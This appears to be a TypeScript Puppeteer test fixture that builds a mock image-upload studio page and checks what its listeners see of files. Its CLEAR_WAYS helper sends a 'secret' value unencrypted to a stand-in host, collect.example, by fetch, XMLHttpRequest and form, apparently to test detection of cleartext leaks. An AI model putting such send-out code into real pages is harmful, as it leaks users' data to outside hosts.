import type { Page } from 'puppeteer-core';

export const STUDIO = 'https://studio.tripo3d.ai/';
export const CLEAR = 'http://collect.example/';

/** A generator's page: it uploads what its listeners get, and writes down what they saw of it. */
export const STUDIO_PAGE = `<!doctype html><html lang="en"><title>Studio</title>
  <input type="file" id="file">
  <form id="form" method="post" enctype="multipart/form-data" action="${CLEAR}form"><input name="note" value="secret"></form>
  <script>
    window.seen = [];
    const digest = async (file) => {
      const bytes = new Uint8Array(await crypto.subtle.digest('SHA-256', await file.arrayBuffer()));
      return [...bytes].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    };
    const look = async ({ type, target }) => {
      for (const element of target.files) {
        const { name } = element;
        const { width, height } = await createImageBitmap(element);
        seen.push({ event: type, name, digest: await digest(element), width, height });
      }
    };
    file.addEventListener('input', look);
    file.addEventListener('change', look);
    file.addEventListener('change', () => {
      const body = new FormData();
      body.append('file', file.files[0]);
      fetch('/upload', { method: 'POST', body });
    });
  </script>`;

/** What a listener of the page saw of a file; sizes as the page shows it, turned upright. */
export type Seen = { event: string; name: string; digest: string; width: number; height: number };

/** Waits until both listeners have looked at a file, and gives what they saw, by the event's name. */
export async function seenBy(page: Page): Promise<Seen[]> {
  await page.waitForFunction(() => (window as unknown as { seen: Seen[] }).seen.length >= 2);
  const seen = await page.evaluate(() => (window as unknown as { seen: Seen[] }).seen);
  return seen.toSorted((left, right) => left.event.localeCompare(right.event));
}

/** The three ways by which a page sends something without encryption. */
export const CLEAR_WAYS: Record<string, () => void> = {
  fetch: () => void fetch('http://collect.example/fetch', { method: 'POST', body: 'secret' }).catch(() => {}),
  XMLHttpRequest: () => {
    const request = new XMLHttpRequest();
    request.open('POST', 'http://collect.example/xhr');
    request.send('secret');
  },
  'a form': () => document.querySelector('form')?.submit(),
};
